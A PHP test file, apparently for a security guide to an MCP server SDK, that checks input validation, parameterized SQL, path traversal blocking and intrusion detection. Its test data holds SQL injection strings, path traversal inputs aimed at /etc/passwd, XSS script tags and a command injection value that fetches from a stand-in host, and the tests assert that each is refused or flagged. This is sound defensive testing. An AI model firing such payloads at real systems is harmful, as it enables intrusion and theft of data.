<?php
// The guide's chapters on input, files and intrusion detection.
declare(strict_types=1);

require __DIR__ . '/support.inc';
require __DIR__ . '/sdk.inc';

use Adarga\Guide\{AuditLogger, GuardedServer, InputValidator, McpError, SecureDatabase, SecureFileHandler, SecurityMonitor};

section('Comprehensive Input Validation', function (): void {
    $validator = new InputValidator();
    $user = ['email' => 'alice@example.com', 'name' => 'Alice', 'phone' => '+49 (30) 123-456', 'age' => 30];
    same([], $validator->validateUserInput($user));
    same([], $validator->validateUserInput(['email' => 'alice@example.com']));
    $table = [
        [['email' => ''], ['Email is required']], [['email' => null], ['Email is required']], [['email' => 'no'], ['Invalid email format']],
        [['email' => ['a@example.com']], ['Invalid email format']], [['name' => 'A'], ['Name must be at least 2 characters']],
        [['name' => str_repeat('ä', 100)], []], [['name' => str_repeat('a', 101)], ['Name cannot exceed 100 characters']],
        [['phone' => "123\n"], ['Invalid phone number format']], [['phone' => '12a'], ['Invalid phone number format']],
        [['age' => 12], ['Age must be between 13 and 120']], [['age' => 121], ['Age must be between 13 and 120']],
        // the guide compares a text with numbers, and lets this one through
        [['age' => '30 years'], ['Age must be between 13 and 120']], [['age' => 13], []], [['age' => 120], []],
        [['email' => 'no', 'name' => '', 'age' => 0], ['Invalid email format', 'Name must be at least 2 characters', 'Age must be between 13 and 120']],
    ];
    foreach ($table as [$wrong, $errors]) {
        same($errors, $validator->validateUserInput($wrong + $user));
    }
    same(['Email is required'], $validator->validateUserInput([]));
    $safe = $validator->sanitizeInput(['a' => ' <b>bold</b> & "x" ', 'n' => 7, 'deep' => ['t' => "<script>alert('x')</script>"]]);
    same(['bold &amp; &quot;x&quot;', 7, false], [$safe['a'], $safe['n'], str_contains($safe['deep']['t'], '<')]);
});

section('SQL Injection Prevention', function (): void {
    if (!extension_loaded('pdo_sqlite')) {
        echo "not run: no pdo_sqlite (Debian package php-sqlite3)\n";
        return;
    }
    $pdo = new PDO('sqlite::memory:');
    $pdo->exec('CREATE TABLE users (id INTEGER, name TEXT, email TEXT)');
    $database = new SecureDatabase($pdo);
    foreach ([[1, 'Alice', 'alice@example.com'], [2, "Bob O'Hara", 'bob@example.com'], [3, '100% Carol_x', 'carol@example.com']] as $row) {
        same(1, $database->execute('INSERT INTO users VALUES (?, ?, ?)', $row));
    }
    same('Alice', $database->findUser(1)['name']);
    same(null, $database->findUser(9));
    $found = fn (string $query): array => array_column($database->searchUsers($query), 'id');
    same([[1], [2], [1, 2, 3]], array_map($found, ['alice', "O'Hara", 'example.com']));
    same([[], []], array_map($found, ["' OR '1'='1", "x' UNION SELECT 1,2,3 --"]));
    // in the guide's search each of these finds everybody
    same([[3], [3], []], array_map($found, ['%', '_x', '\\']));
    same([['name' => 'Alice']], $database->select('SELECT name FROM users WHERE id = ? AND name <> ? ORDER BY id LIMIT ?', [1, 'x', 5]));
    $name = "x' OR '1'='1";
    foreach (["SELECT * FROM users WHERE name = '$name'", 'SELECT * FROM users WHERE id = 1 OR 1 = 1', 'SELECT * FROM users -- all', 'SELECT * FROM users /* all */',
        'SELECT * FROM users; DROP TABLE users', 'SELECT * FROM users WHERE id = ?', "SELECT * FROM users WHERE name = \u{2019}a", 'SELECT * FROM "users"',
        'SELECT * FROM users WHERE id = .5', 'SELECT * FROM users WHERE id=0x1', 'SELECT * FROM users WHERE id = :id'] as $statement) {
        refused(InvalidArgumentException::class, fn () => $database->select($statement));
        refused(InvalidArgumentException::class, fn () => $database->execute($statement));
    }
    refused(InvalidArgumentException::class, fn () => $database->select('SELECT ?', [[1]]));
    refused(InvalidArgumentException::class, fn () => $database->select('SELECT ?', ['a' => 1]));
    same(3, count($database->select('SELECT id FROM users;')));
});

section('Path Traversal Prevention', function (): void {
    mkdir(folder('files'));
    file_put_contents(folder('files/a.txt'), 'content');
    file_put_contents(folder('files/long.txt'), str_repeat('x', 101));
    file_put_contents(folder('secret.txt'), 'secret');
    // the guide's prefix takes this directory for the other
    mkdir(folder('files-private'));
    file_put_contents(folder('files-private/b.txt'), 'private');
    symlink('../secret.txt', folder('files/link.txt'));
    $files = new SecureFileHandler(folder('files'), maxFileSize: 100);
    same('content', $files->readFile('a.txt'));
    $said = [];
    foreach (['../secret.txt', '../files-private/b.txt', 'link.txt', 'absent.txt', '/etc/passwd', "a.txt\0.png", '..\\secret.txt', 'x/../../secret.txt', ''] as $path) {
        $said[] = refused(McpError::class, fn () => $files->readFile($path));
        $code = 0;
        try {
            $files->readFile($path);
        } catch (McpError $error) {
            $code = $error->getCode();
        }
        same(-32602, $code);
    }
    // one answer for all: none of them tells what is there
    same(['Access denied'], array_values(array_unique($said)));
    same('File not readable', refused(McpError::class, fn () => $files->readFile('long.txt')));
    same([true, true, false, false, false, false], array_map($files->isValidPath(...), ['a.txt', 'deep/absent.txt', '../secret.txt', "a\0", 'a\\b', '/etc/passwd']));
    refused(McpError::class, fn () => (new SecureFileHandler(folder('files'), ['png']))->readFile('a.txt'));
});

section('Intrusion Detection', function (): void {
    Adarga\AuditTrail::makeKey(folder('audit.log.key'));
    $monitor = new SecurityMonitor(new AuditLogger(folder('audit.log')));
    $types = fn (array $input): array => array_column($monitor->scanInput($input), 'type', 'field');
    same(['q' => 'sql_injection'], $types(['q' => "1' OR '1'='1' --"]));
    same(['a' => 'xss_attempt', 'b/0/c' => 'path_traversal'], $types(['a' => '<script>alert(1)</script>', 'b' => [['c' => '..%2f..%2fetc/passwd']], 'n' => 7]));
    same(['x' => 'command_injection'], $types(['x' => '$(curl http://evil.example/x)']));
    // each of these the guide's patterns block
    foreach (['Smith & Sons (1999)', 'Please select a seat from the list', 'delete my account; thanks', 'a drop in the ocean', 'costs $5 {net}'] as $plain) {
        same([], $monitor->scanInput(['text' => $plain]));
    }
    $monitor->blockSuspiciousRequest([]);
    $policy = "server = { name = \"s\", revisions = [\"2026-07-28\"] }\nstdio.role = \"user\"\n[roles]\nuser = [\"read:public\"]\n[tools.secure_search]\npermission = \"read:public\"\n";
    $server = new GuardedServer(Adarga\Gate::fromText($policy), new McpServer(new Implementation('s', '1')));
    $server->tool('secure_search', 'Perform secure search', [], function (array $args) use ($monitor): array {
        $monitor->blockSuspiciousRequest($monitor->scanInput($args));
        return text("searched {$args['query']}");
    });
    same('searched reports of 2026', said($server->handle(tool('secure_search', ['query' => 'reports of 2026']))));
    same(-32603, said($server->handle(tool('secure_search', ['query' => "hidden-4711' UNION SELECT password FROM users --"]))));
    $log = file_get_contents(folder('audit.log'));
    same([1, true, false], [substr_count($log, 'suspicious_request_blocked'), str_contains($log, 'sql_injection'), str_contains($log, 'hidden-4711')]);
    // the same, without a line of PHP
    $blocking = Adarga\Gate::fromText("{$policy}[threats]\nsql = \"block\"\n");
    same(false, $blocking->decide(tool('secure_search', ['query' => "x' UNION SELECT password FROM users --"]))->allowed);
});

finish();
